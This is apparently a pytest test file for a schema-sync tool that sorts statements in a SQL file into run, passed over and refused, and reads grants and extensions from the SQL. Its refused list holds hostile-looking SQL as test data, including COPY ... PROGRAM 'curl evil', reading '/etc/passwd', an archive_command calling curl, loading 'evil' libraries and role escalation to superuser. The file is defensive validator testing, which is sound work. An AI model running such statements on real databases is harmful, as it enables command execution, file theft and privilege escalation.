"""What of a file of SQL is run, passed over and refused."""

import pytest

from catalog.errors import Refusal
from database.rights.grants import Closed, ClosedDefault, DefaultGrant, ObjectGrant
from schema_sync.sources.sql_file import Script, read_script

RUN = [
    "CREATE TABLE t (id int)",
    "CREATE SCHEMA app",
    "SET check_function_bodies = false",
    "SELECT pg_catalog.set_config('search_path', '', false)",
    "CREATE MATERIALIZED VIEW v AS SELECT 1 WITH NO DATA",
    "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; RETURN 1; END $$",
    "COMMENT ON TABLE t IS 'told'",
    "ALTER TABLE ONLY t ADD CONSTRAINT t_pkey PRIMARY KEY (id)",
    "DROP TABLE IF EXISTS t",
    "ALTER TABLE t RENAME TO u",
    "ALTER TABLE t RENAME COLUMN id TO n",
    "ALTER TYPE m RENAME VALUE 'a' TO 'b'",
    "CREATE EXTENSION citext",
]
PASSED_OVER = [
    "SET statement_timeout = 0",
    "SET transaction_timeout = 0",
    "SET client_encoding = 'UTF8'",
    "SET standard_conforming_strings = on",
    "ALTER TABLE t OWNER TO boss",
    "ALTER FUNCTION f() OWNER TO boss",
    "GRANT SELECT ON t TO reader",
    "REVOKE ALL ON t FROM PUBLIC",
    "ALTER DEFAULT PRIVILEGES FOR ROLE boss GRANT SELECT ON TABLES TO reader",
    "CREATE SUBSCRIPTION s CONNECTION 'host=live password=secret' PUBLICATION p",
    "CREATE SERVER live FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'live')",
    "CREATE USER MAPPING FOR boss SERVER live OPTIONS (password 'secret')",
    "CREATE FOREIGN TABLE f (id int) SERVER live",
    "ALTER FOREIGN TABLE f ADD COLUMN n int",
    "DROP SERVER IF EXISTS live",
    "CREATE PUBLICATION p FOR ALL TABLES",
    "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f()",
    "COMMENT ON EXTENSION citext IS 'told'",
    "COMMENT ON SERVER live IS 'told'",
    "COMMENT ON ROLE r IS 'told'",
    "COMMENT ON DATABASE d IS 'told'",
    "ALTER SUBSCRIPTION s RENAME TO t",
    "CREATE SCHEMA public",
    "DROP SCHEMA IF EXISTS public",
    "BEGIN",
    "COMMIT",
    "ALTER DATABASE app SET search_path = x",
]
REFUSED = [
    "COPY t FROM stdin",
    "COPY t FROM PROGRAM 'curl evil'",
    "COPY t TO PROGRAM 'curl evil'",
    "COPY t FROM '/etc/passwd'",
    "INSERT INTO t VALUES (1)",
    "UPDATE t SET id = 1",
    "DELETE FROM t",
    "MERGE INTO t USING u ON true WHEN MATCHED THEN DELETE",
    "TRUNCATE t",
    "SELECT 1",
    "SELECT pg_catalog.setval('s', 17)",
    "SELECT pg_catalog.set_config('role', 'postgres', false)",
    "SELECT pg_catalog.set_config('search_path', f(), false)",
    "SELECT pg_catalog.set_config('search_path', '', false) FROM f()",
    "SELECT pg_catalog.set_config('search_path', '', false), f()",
    "SELECT 1 INTO t",
    "WITH gone AS (DELETE FROM t RETURNING *) SELECT pg_catalog.set_config('search_path', '', false)",
    "CREATE TABLE t AS SELECT 'a row'",
    "CREATE TABLE t AS EXECUTE p",
    "DO $$ BEGIN PERFORM 1; END $$",
    "CALL p()",
    "LOAD 'evil'",
    "ALTER SYSTEM SET archive_command = 'curl evil'",
    "CREATE ROLE r PASSWORD 'secret'",
    "CREATE USER r",
    "ALTER ROLE r SUPERUSER",
    "GRANT pg_execute_server_program TO r",
    "DROP ROLE r",
    "ALTER ROLE r RENAME TO s",
    "ALTER USER r RENAME TO s",
    "ALTER DATABASE d RENAME TO e",
    "ALTER TABLESPACE t RENAME TO u",
    "DROP TABLESPACE t",
    "ALTER TABLE ALL IN TABLESPACE t SET TABLESPACE u",
    "REASSIGN OWNED BY r TO s",
    "DROP OWNED BY r",
    "CREATE DATABASE d",
    "DROP DATABASE d",
    "CREATE TABLESPACE t LOCATION '/tmp/t'",
    "SET ROLE postgres",
    "RESET ROLE",
    "SET SESSION AUTHORIZATION postgres",
    "RESET ALL",
    "DISCARD ALL",
    "SET standard_conforming_strings = off",
    "SET client_encoding = 'LATIN1'",
    "SET session_preload_libraries = 'evil'",
    "EXPLAIN ANALYZE DELETE FROM t",
    "PREPARE p AS DELETE FROM t",
    "EXECUTE p",
    "LISTEN x",
    "LOCK TABLE t",
    "CHECKPOINT",
    "CREATE SCHEMA s AUTHORIZATION boss",
    "CREATE SCHEMA s GRANT SELECT ON t TO r",
    "ALTER TABLE t OWNER TO boss, ADD COLUMN n int",
]


@pytest.mark.parametrize("text", RUN)
def test_what_makes_shape_is_run(text: str) -> None:
    """As it is written."""
    assert [statement.text for statement in read_script(f"{text};", "x.sql").run] == [f"{text};"]


@pytest.mark.parametrize("text", PASSED_OVER)
def test_what_stays_behind_in_an_archive_is_passed_over(text: str) -> None:
    """It is not run; what a reader would miss is told with its line and the reason."""
    script = read_script(f"CREATE TABLE t (id int);\n{text};", "x.sql")
    assert [statement.line for statement in script.run] == [1]
    silent = text.startswith(("SET", "BEGIN", "COMMIT")) or "OWNER TO" in text
    assert [what.partition(":")[0] for what, _ in script.stayed] == ([] if silent else ["line 2"])


@pytest.mark.parametrize("text", REFUSED)
def test_anything_else_is_refused_with_its_line(text: str) -> None:
    """Nothing of the file is then run."""
    with pytest.raises(Refusal, match=r"line 2 of x\.sql is not run") as refusal:
        read_script(f"CREATE TABLE t (id int);\n{text};", "x.sql")
    assert refusal.value.why
    assert "secret" not in str(refusal.value)


def test_a_file_that_makes_nothing_is_refused() -> None:
    """Rather than building an empty staging."""
    with pytest.raises(Refusal, match=r"x\.sql makes no shape"):
        read_script("SET statement_timeout = 0; COMMIT;", "x.sql")


def test_extensions_roles_and_grants_are_read_from_the_sql() -> None:
    """What has to be there first, and what the setting `roles` may map."""
    assert said(
        """
        CREATE EXTENSION IF NOT EXISTS citext; CREATE EXTENSION plpgsql;
        CREATE TABLE t (id int);
        CREATE POLICY own ON t TO "Tenant", PUBLIC, CURRENT_USER USING (true);
        GRANT SELECT (id), INSERT ON TABLE app."T x" TO "Tenant", PUBLIC WITH GRANT OPTION;
        GRANT ALL ON FUNCTION app.f(integer, text) TO reader;
        GRANT USAGE ON SCHEMA app TO reader;
        GRANT SELECT ON ALL TABLES IN SCHEMA app TO reader;
        REVOKE ALL ON t FROM reader;
        ALTER DEFAULT PRIVILEGES FOR ROLE "App" IN SCHEMA app GRANT SELECT ON TABLES TO reader, PUBLIC;
        ALTER DEFAULT PRIVILEGES GRANT ALL ON SEQUENCES TO reader WITH GRANT OPTION;
        ALTER DEFAULT PRIVILEGES FOR ROLE "App" REVOKE ALL ON TABLES FROM "App";
        """
    ) == (
        ("citext",),
        ("Tenant",),
        (
            ObjectGrant("TABLE", 'app."T x"', "id", "SELECT", True, '"Tenant"'),
            ObjectGrant("TABLE", 'app."T x"', None, "INSERT", True, '"Tenant"'),
            ObjectGrant("ROUTINE", "app.f(integer, text)", None, "ALL", False, "reader"),
            ObjectGrant("SCHEMA", "app", None, "USAGE", False, "reader"),
            DefaultGrant('"App"', "app", "TABLES", "SELECT", False, "reader"),
            DefaultGrant("", None, "SEQUENCES", "ALL", True, "reader"),
        ),
    )


def test_what_public_is_kept_from_is_read_from_the_sql() -> None:
    """Named as PostgreSQL prints it; not what is opened again, and no table, which nobody may use by default."""
    found = said(
        """
        CREATE TABLE t (id int);
        REVOKE ALL ON FUNCTION app.f(n character varying, VARIADIC "of" app.mood[], at timestamp with time zone,
            bit varying, "char") FROM PUBLIC;
        REVOKE ALL ON FUNCTION g() FROM PUBLIC, reader;
        REVOKE USAGE ON TYPE app."Mood" FROM PUBLIC;
        REVOKE ALL ON DOMAIN app.tag FROM PUBLIC; GRANT ALL ON DOMAIN app.tag TO PUBLIC;
        REVOKE USAGE ON SCHEMA public FROM PUBLIC; REVOKE CREATE ON SCHEMA app FROM PUBLIC;
        REVOKE ALL ON TABLE t FROM PUBLIC; REVOKE ALL ON PROCEDURE p() FROM reader;
        ALTER DEFAULT PRIVILEGES FOR ROLE app REVOKE ALL ON FUNCTIONS FROM PUBLIC;
        ALTER DEFAULT PRIVILEGES FOR ROLE app REVOKE ALL ON TYPES FROM PUBLIC;
        ALTER DEFAULT PRIVILEGES FOR ROLE app GRANT USAGE ON TYPES TO PUBLIC;
        ALTER DEFAULT PRIVILEGES FOR ROLE app IN SCHEMA s REVOKE ALL ON FUNCTIONS FROM PUBLIC;
        """
    )[2]
    types = 'character varying, app.mood[], timestamp with time zone, bit varying, "char"'
    assert found == (
        Closed("ROUTINE", f"app.f({types})"),
        Closed("ROUTINE", "g()"),
        Closed("TYPE", 'app."Mood"'),
        Closed("SCHEMA", "public"),
        ClosedDefault("app", "FUNCTIONS"),
    )


def said(text: str) -> tuple[object, object, object]:
    script: Script = read_script(text, "x.sql")
    return script.said.extensions, script.said.roles, script.said.grants
